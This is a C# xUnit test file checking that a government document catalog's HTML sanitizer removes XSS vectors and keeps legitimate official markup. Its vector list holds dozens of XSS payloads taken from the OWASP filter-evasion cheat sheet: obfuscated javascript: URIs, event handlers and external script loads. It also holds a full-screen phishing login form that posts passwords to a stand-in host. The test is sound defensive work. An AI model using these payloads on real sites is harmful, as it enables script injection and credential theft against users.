using AngleSharp.Html.Parser;
using Gongkai.Web.Catalog;

namespace Gongkai.Web.Tests.Security;

/// <summary>
/// The catalog's HTML allow-list against the OWASP XSS Filter Evasion Cheat Sheet's vectors and the
/// phishing overlay of issue 15, and what official documents need survives.
/// </summary>
public sealed class CatalogHtmlTests
{
    /// <summary>From the OWASP XSS Filter Evasion Cheat Sheet (cheatsheetseries.owasp.org), plus the overlay form.</summary>
    public static readonly TheoryData<string> Vectors =
    [
        "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
        "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=javascript:alert('XSS')>",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
        "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
        "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
        "<IMG SRC=# onmouseover=\"alert('xxs')\">",
        "<IMG SRC= onmouseover=\"alert('xxs')\">",
        "<IMG onmouseover=\"alert('xxs')\">",
        "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
        "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
        "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
        "<IMG SRC=\"jav\tascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
        "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
        "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
        "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
        "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
        "<SCRIPT SRC=//xss.rocks/.j>",
        "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
        "<iframe src=http://xss.rocks/scriptlet.html <",
        "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
        "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
        "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
        "<IMG DYNSRC=\"javascript:alert('XSS')\">",
        "<IMG LOWSRC=\"javascript:alert('XSS')\">",
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
        "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
        "<svg/onload=alert('XSS')>",
        "<BODY ONLOAD=alert('XSS')>",
        "<BGSOUND SRC=\"javascript:alert('XSS');\">",
        "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
        "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
        "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
        "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
        "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
        "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
        "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
        "<STYLE type=\"text/css\">BODY{background:url(\"javascript:alert('XSS')\")}</STYLE>",
        "<XSS STYLE=\"behavior: url(xss.htc);\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
        "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
        "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
        "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
        "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
        "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
        "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
        "<DIV STYLE=\"width: expression(alert('XSS'));\">",
        "<BASE HREF=\"javascript:alert('XSS');//\">",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
        "<SCRIPT a=\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
        "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
        "<A HREF=\"http://0x42.0x0000066.0x7.0x93/\">XSS</A>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<form action=\"https://elsewhere.example/steal\" method=\"post\" style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:#fff\"><p>请重新登录</p><input name=\"password\" type=\"password\"><button>登录</button></form>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\"><a href=\"https://elsewhere.example\">点击领取补贴</a></div>",
        "<button formaction=\"https://elsewhere.example\">提交</button><textarea>x</textarea><select><option>1</option></select>",
        "<img src=\"https://tracker.example/pixel.gif\">",
        "<a href=\"https://example.gov.cn\" target=\"_blank\">外部</a>",
    ];

    private static readonly HashSet<string> AllowedTags = new(StringComparer.OrdinalIgnoreCase)
    {
        "h1", "h2", "h3", "h4", "h5", "h6", "p", "br", "hr", "div", "span", "blockquote", "pre", "code", "ul", "ol", "li", "dl", "dt", "dd",
        "table", "caption", "colgroup", "col", "thead", "tbody", "tfoot", "tr", "th", "td", "a", "img", "figure", "figcaption",
        "strong", "b", "em", "i", "u", "s", "sub", "sup", "small", "del", "ins", "abbr", "html", "head", "body",
    };

    [Theory]
    [MemberData(nameof(Vectors))]
    public void An_xss_vector_leaves_no_script_handler_style_form_or_foreign_url(string vector)
    {
        var clean = CatalogHtml.Sanitize(vector);
        var document = new HtmlParser().ParseDocument("<body>" + clean + "</body>");
        foreach (var element in document.All)
        {
            Assert.True(AllowedTags.Contains(element.LocalName), $"<{element.LocalName}> kept from {vector}: {clean}");
            foreach (var attribute in element.Attributes)
            {
                Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), $"{attribute.Name} kept: {clean}");
                Assert.NotEqual("style", attribute.Name);
                Assert.NotEqual("class", attribute.Name);
                Assert.NotEqual("target", attribute.Name);
                if (attribute.Name is "href" or "src" or "cite")
                {
                    var value = attribute.Value.Trim();
                    Assert.True(
                        value.StartsWith("https://", StringComparison.OrdinalIgnoreCase) || value.StartsWith("http://", StringComparison.OrdinalIgnoreCase)
                        || value.StartsWith("mailto:", StringComparison.OrdinalIgnoreCase) || (value.StartsWith('/') && !value.StartsWith("//", StringComparison.Ordinal)),
                        $"{attribute.Name}=\"{value}\" kept: {clean}");
                    if (element.LocalName == "img")
                    {
                        Assert.StartsWith("/", value, StringComparison.Ordinal);
                    }
                }
            }
        }

        Assert.DoesNotContain(document.All.SelectMany(e => e.Attributes), a => a.Value.Contains("javascript:", StringComparison.OrdinalIgnoreCase));
        Assert.DoesNotContain("<form", clean, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("position:", clean, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public void An_official_document_keeps_its_headings_paragraphs_lists_tables_links_and_site_images()
    {
        const string Html =
            "<h2>一、总体情况</h2><p>本年度共<strong>主动公开</strong>信息<em>120</em>条。</p>" +
            "<ol><li>规范性文件</li><li>政策解读</li></ol><ul><li>甲</li></ul>" +
            "<table><caption>表一</caption><thead><tr><th scope=\"col\">项目</th><th colspan=\"2\">数量</th></tr></thead>" +
            "<tbody><tr><td rowspan=\"2\">新制作</td><td>10</td><td>5</td></tr></tbody></table>" +
            "<p><a href=\"https://www.gov.cn/zhengce/\">中国政府网</a> <img src=\"/files/seal.png\" alt=\"印章\"></p>";
        var clean = CatalogHtml.Sanitize(Html);
        foreach (var kept in new[] { "<h2>", "<strong>", "<em>", "<ol>", "<li>", "<table>", "<caption>", "scope=\"col\"", "colspan=\"2\"", "rowspan=\"2\"", "href=\"https://www.gov.cn/zhengce/\"", "src=\"/files/seal.png\"", "alt=\"印章\"", "一、总体情况" })
        {
            Assert.Contains(kept, clean, StringComparison.Ordinal);
        }
    }

    [Fact]
    public void A_link_gets_rel_noopener_noreferrer()
    {
        Assert.Contains("rel=\"noopener noreferrer nofollow\"", CatalogHtml.Sanitize("<a href=\"https://example.gov.cn\">x</a>"), StringComparison.Ordinal);
    }
}
